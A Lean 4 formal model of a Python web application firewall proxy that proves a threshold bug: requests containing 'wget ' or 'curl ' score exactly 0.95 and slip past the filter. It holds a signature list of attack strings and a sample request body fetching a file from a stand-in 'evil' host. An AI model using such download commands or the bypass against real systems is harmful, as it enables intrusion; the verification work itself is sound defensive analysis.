import Aegis.Lib.FloatVal
import Aegis.Lib.MultiMap
import Aegis.Lib.Text
import Mathlib.Tactic.NormNum

/-! The WAF proxy, `waf_proxy.py`: the text of a request, its score, and what becomes
of it. The score the model gives to a text is a parameter, and so is the Unicode data
of lower-casing. -/
namespace Aegis.Waf

structure Request where
  method : Text
  path : Text
  query : Text
  headers : List (Text × Text)
  body : Bytes
  queryParams : List (Text × Text)
  clientHost : Text

/-- `request.url.path + ("?" + request.url.query if request.url.query else "")`. -/
def Request.url (r : Request) : Text :=
  r.path ++ if r.query = [] then [] else ['?'] ++ r.query

def extractHttpFeatures (r : Request) : Text :=
  let headersStr := ['\n'].intercalate (r.headers.map fun (k, v) => k ++ ": ".toList ++ v)
  r.method ++ [' '] ++ r.url ++ " HTTP/1.1\n".toList ++ headersStr ++ "\n\n".toList ++
    Text.decodeIgnore r.body

def highRiskSigs : List (Text × FloatVal) :=
  [("union select".toList, .fin 0.99), ("1=1".toList, .fin 0.97), ("<script>".toList, .fin 0.98),
    ("javascript:".toList, .fin 0.97), ("cmd.exe".toList, .fin 0.99),
    ("/etc/passwd".toList, .fin 0.99), ("../../../".toList, .fin 0.96),
    ("wget ".toList, .fin 0.95), ("curl ".toList, .fin 0.95), ("base64 -d".toList, .fin 0.96)]

/-- The fast path: the score of the first signature that is in the text. -/
def signatureScore (rawLower : Text) : List (Text × FloatVal) → Option FloatVal
  | [] => none
  | (sig, score) :: rest =>
    if Text.Contains sig rawLower then some score else signatureScore rawLower rest

/-- `ai_threat_detection`. A failed inference has the score -1. -/
def aiThreatDetection (D : CaseData) (onnxScore : Text → FloatVal) (rawHttp : Text) : FloatVal :=
  match signatureScore (D.lower rawHttp) highRiskSigs with
  | some score => score
  | none =>
    let modelScore := onnxScore rawHttp
    if .fin 0 ≤ modelScore then modelScore else .fin 0.01

/-! Header names are in lower case, as both libraries present them. -/

/-- `dict(request.headers)`: the first value of each name. -/
def headerDict (headers : List (Text × Text)) : List (Text × Text) :=
  MultiMap.dict (fun first _ => first) headers

/-- The mapping view of `request.query_params`: the last value of each name. -/
def queryDict (params : List (Text × Text)) : List (Text × Text) :=
  MultiMap.dict (fun _ last => last) params

/-- `dict(backend_resp.headers)`: the values of each name joined by commas. -/
def joinedDict (headers : List (Text × Text)) : List (Text × Text) :=
  MultiMap.dict (fun old new => old ++ ", ".toList ++ new) headers

/-- The request that goes to the backend. Its query consists of `params`, with which
httpx overrides the query in the URL. -/
structure Forwarded where
  method : Text
  path : Text
  params : List (Text × Text)
  headers : List (Text × Text)
  content : Bytes

structure Response where
  statusCode : ℕ
  headers : List (Text × Text)
  content : Bytes

/-- How the exchange with the backend ends. -/
inductive Backend where
  | answers (r : Response)
  | connectError
  | raises

/-- What a request leads to: the line appended to the alert log, the request sent to
the backend, and the response, if no exception reaches the framework. -/
structure Outcome where
  logged : Option Text := none
  forwarded : Option Forwarded := none
  response : Option Response := none

def jsonType : List (Text × Text) := [("content-type".toList, "application/json".toList)]

def denied : Response := ⟨403, jsonType,
  ascii "\x7b\"error\": \"Access Denied by Aegis-WAF. Malicious payload detected.\", \"code\": 403\x7d"⟩

def offline : Response := ⟨502, jsonType,
  ascii "\x7b\"error\": \"Aegis-WAF: Backend server is offline.\", \"code\": 502\x7d"⟩

/-- What the proxy runs with: the model, the backend, the clock and the text of a float. -/
structure Runtime where
  caseData : CaseData
  onnxScore : Text → FloatVal
  backend : Forwarded → Backend
  time : FloatVal
  floatText : FloatVal → Text

def reverseProxy (rt : Runtime) (r : Request) : Outcome :=
  let threatScore := aiThreatDetection rt.caseData rt.onnxScore (extractHttpFeatures r)
  if .fin 0.95 < threatScore then
    { logged := some (rt.floatText rt.time ++ [','] ++ r.clientHost ++ [','] ++ r.url ++ [','] ++
        rt.floatText threatScore ++ ['\n'])
      response := some denied }
  else
    let proxyHeaders := (headerDict r.headers).filter (fun h => h.1 ≠ "host".toList)
    let proxyReq : Forwarded := ⟨r.method, r.path, queryDict r.queryParams, proxyHeaders, r.body⟩
    { forwarded := some proxyReq
      response := match rt.backend proxyReq with
        | .answers resp => some { resp with headers := joinedDict resp.headers }
        | .connectError => some offline
        | .raises => none }

/-! The verdict. -/

/-- Answered with 403 and not passed on. -/
def Outcome.Denied (o : Outcome) : Prop :=
  o.forwarded = none ∧ o.response.map Response.statusCode = some 403

/-- The request text in lower case contains a signature of the list. -/
def HasSignature (D : CaseData) (r : Request) (sigs : List (Text × FloatVal)) : Prop :=
  ∃ s ∈ sigs, Text.Contains s.1 (D.lower (extractHttpFeatures r))

/-- The verdict on a request is the rule: a signature or a score above 0.95. -/
def VerdictAsDocumented (rt : Runtime) (r : Request) : Prop :=
  (reverseProxy rt r).Denied ↔
    HasSignature rt.caseData r highRiskSigs ∨ .fin 0.95 < rt.onnxScore (extractHttpFeatures r)

theorem denied_iff (rt : Runtime) (r : Request) :
    (reverseProxy rt r).Denied ↔
      .fin 0.95 < aiThreatDetection rt.caseData rt.onnxScore (extractHttpFeatures r) := by
  unfold reverseProxy Outcome.Denied
  dsimp only
  split_ifs with h
  · exact iff_of_true ⟨rfl, rfl⟩ h
  · exact iff_of_false (fun hd => by cases hd.1) h

theorem signatureScore_eq_none_iff {t : Text} {sigs : List (Text × FloatVal)} :
    signatureScore t sigs = none ↔ ∀ s ∈ sigs, ¬ Text.Contains s.1 t := by
  induction sigs with
  | nil => exact iff_of_true rfl (fun _ hs => absurd hs List.not_mem_nil)
  | cons s sigs ih =>
    rw [signatureScore, List.forall_mem_cons]
    split_ifs with h
    · exact iff_of_false not_false (fun hall => hall.1 h)
    · rw [ih]
      exact (and_iff_right h).symm

theorem signatureScore_append (t : Text) (sigs rest : List (Text × FloatVal)) :
    signatureScore t (sigs ++ rest) = (signatureScore t sigs).or (signatureScore t rest) := by
  induction sigs with
  | nil => rfl
  | cons s sigs ih =>
    rw [List.cons_append, signatureScore, signatureScore]
    split_ifs
    · rfl
    · exact ih

theorem signatureScore_mem {t : Text} {sigs : List (Text × FloatVal)} {score : FloatVal}
    (h : signatureScore t sigs = some score) : ∃ s ∈ sigs, Text.Contains s.1 t ∧ s.2 = score := by
  induction sigs with
  | nil => cases h
  | cons s sigs ih =>
    rw [signatureScore] at h
    split_ifs at h with hin
    · exact ⟨s, List.mem_cons_self, hin, Option.some.inj h⟩
    · obtain ⟨s', hs', hrest⟩ := ih h
      exact ⟨s', List.mem_cons_of_mem _ hs', hrest⟩

theorem highRiskSigs_ascii : ∀ s ∈ highRiskSigs, s.1 ≠ [] ∧ ∀ c ∈ s.1, c.toNat < 128 := by
  have hall : highRiskSigs.all (fun s => !s.1.isEmpty && s.1.all (fun c => c.toNat < 128)) = true := by
    decide +kernel
  intro s hs
  have h := List.all_eq_true.mp hall s hs
  simpa using h

/-- The signatures before the two that score exactly the threshold. -/
def sharpSigs : List (Text × FloatVal) := highRiskSigs.take 7

theorem sharpSigs_above : ∀ s ∈ sharpSigs, FloatVal.fin 0.95 < s.2 := by decide +kernel

/-- Without a signature the model decides; its sentinel and a NaN are no threat. -/
theorem model_decides {D : CaseData} {onnxScore : Text → FloatVal} {raw : Text}
    (h : signatureScore (D.lower raw) highRiskSigs = none) :
    .fin 0.95 < aiThreatDetection D onnxScore raw ↔ .fin 0.95 < onnxScore raw := by
  unfold aiThreatDetection
  rw [h]
  dsimp only
  split_ifs with hsign
  · exact Iff.rfl
  · have hlow : ¬ FloatVal.fin 0.95 < FloatVal.fin 0.01 := by decide +kernel
    refine iff_of_false hlow (fun habove => hsign ?_)
    have hpos : FloatVal.fin 0 < FloatVal.fin 0.95 := by decide +kernel
    exact FloatVal.le_of_lt (FloatVal.lt_of_lt_of_le hpos (FloatVal.le_of_lt habove))

/-- With a signature its score decides, and only the two on the threshold fall short. -/
theorem signature_decides {D : CaseData} {onnxScore : Text → FloatVal} {raw : Text}
    (h : ∃ s ∈ highRiskSigs, Text.Contains s.1 (D.lower raw)) :
    .fin 0.95 < aiThreatDetection D onnxScore raw ↔
      (∃ s ∈ sharpSigs, Text.Contains s.1 (D.lower raw)) ∨
        (¬ Text.Contains "wget ".toList (D.lower raw) ∧
          ¬ Text.Contains "curl ".toList (D.lower raw)) := by
  set t := D.lower raw
  have hsplit : highRiskSigs = sharpSigs ++ [("wget ".toList, .fin 0.95), ("curl ".toList, .fin 0.95),
      ("base64 -d".toList, .fin 0.96)] := rfl
  have hscore := signatureScore_append t sharpSigs [("wget ".toList, .fin 0.95),
    ("curl ".toList, .fin 0.95), ("base64 -d".toList, .fin 0.96)]
  rw [← hsplit] at hscore
  unfold aiThreatDetection
  rw [hscore]
  cases hsharp : signatureScore t sharpSigs with
  | some score =>
    obtain ⟨s, hs, hin, rfl⟩ := signatureScore_mem hsharp
    exact iff_of_true (sharpSigs_above s hs) (Or.inl ⟨s, hs, hin⟩)
  | none =>
    have hno := signatureScore_eq_none_iff.mp hsharp
    have hnone : ¬ ∃ s ∈ sharpSigs, Text.Contains s.1 t := fun ⟨s, hs, hin⟩ => hno s hs hin
    rw [or_iff_right hnone, Option.none_or]
    unfold signatureScore signatureScore signatureScore
    have hlow : ¬ FloatVal.fin 0.95 < FloatVal.fin 0.95 := by decide +kernel
    by_cases hwget : Text.Contains "wget ".toList t
    · rw [if_pos hwget]
      exact iff_of_false hlow (fun hcon => hcon.1 hwget)
    rw [if_neg hwget]
    by_cases hcurl : Text.Contains "curl ".toList t
    · rw [if_pos hcurl]
      exact iff_of_false hlow (fun hcon => hcon.2 hcurl)
    rw [if_neg hcurl]
    have hbase : Text.Contains "base64 -d".toList t := by
      obtain ⟨s, hs, hin⟩ := h
      rw [hsplit, List.mem_append] at hs
      rcases hs with hs | hs
      · exact absurd hin (hno s hs)
      · simp only [List.mem_cons, List.not_mem_nil, or_false] at hs
        rcases hs with rfl | rfl | rfl
        · exact absurd hin hwget
        · exact absurd hin hcurl
        · exact hin
    have habove : FloatVal.fin 0.95 < FloatVal.fin 0.96 := by decide +kernel
    rw [if_pos hbase]
    exact iff_of_true habove ⟨hwget, hcurl⟩

/-- The verdict is the documented one exactly for the requests that contain neither
`wget ` nor `curl `, or one of the signatures before them. -/
theorem verdictAsDocumented_iff (rt : Runtime) (r : Request) :
    VerdictAsDocumented rt r ↔
      HasSignature rt.caseData r sharpSigs ∨
        (¬ Text.Contains "wget ".toList (rt.caseData.lower (extractHttpFeatures r)) ∧
          ¬ Text.Contains "curl ".toList (rt.caseData.lower (extractHttpFeatures r))) := by
  unfold VerdictAsDocumented
  rw [denied_iff]
  by_cases hsig : HasSignature rt.caseData r highRiskSigs
  · rw [signature_decides hsig, iff_true_right (Or.inl hsig)]
    exact Iff.rfl
  · have hnone : signatureScore (rt.caseData.lower (extractHttpFeatures r)) highRiskSigs = none := by
      rw [signatureScore_eq_none_iff]
      exact fun s hs hin => hsig ⟨s, hs, hin⟩
    rw [model_decides hnone, or_iff_right hsig]
    refine iff_of_true Iff.rfl (Or.inr ⟨?_, ?_⟩)
    · exact fun hin => hsig ⟨("wget ".toList, .fin 0.95), by simp [highRiskSigs], hin⟩
    · exact fun hin => hsig ⟨("curl ".toList, .fin 0.95), by simp [highRiskSigs], hin⟩

theorem not_documented_of_passed {rt : Runtime} {r : Request}
    (hsig : HasSignature rt.caseData r highRiskSigs)
    (hpassed : ¬ .fin 0.95 < aiThreatDetection rt.caseData rt.onnxScore (extractHttpFeatures r)) :
    ¬ VerdictAsDocumented rt r := by
  intro h
  unfold VerdictAsDocumented at h
  rw [denied_iff] at h
  exact hpassed (h.mpr (Or.inl hsig))

/-- A model that is sure of every request, and a backend that is not there. -/
def sampleRuntime : Runtime :=
  ⟨asciiCaseData, fun _ => .fin 0.99, fun _ => .connectError, .fin 0, fun _ => []⟩

def sampleRequest : Request where
  method := "POST".toList
  path := "/run".toList
  query := []
  headers := [("host".toList, "shop.example".toList)]
  body := ascii "wget http://evil/x; base64 -d x"
  queryParams := []
  clientHost := "10.0.0.9".toList

/-- A download command is passed on, although the model alone would deny it. -/
theorem wget_passed_on : ¬ VerdictAsDocumented sampleRuntime sampleRequest := by
  intro h
  have hsig : HasSignature sampleRuntime.caseData sampleRequest highRiskSigs :=
    ⟨("wget ".toList, .fin 0.95), by simp [highRiskSigs], by decide +kernel⟩
  have hpassed : ¬ FloatVal.fin 0.95 < aiThreatDetection sampleRuntime.caseData
      sampleRuntime.onnxScore (extractHttpFeatures sampleRequest) := by decide +kernel
  exact not_documented_of_passed hsig hpassed h

end Aegis.Waf
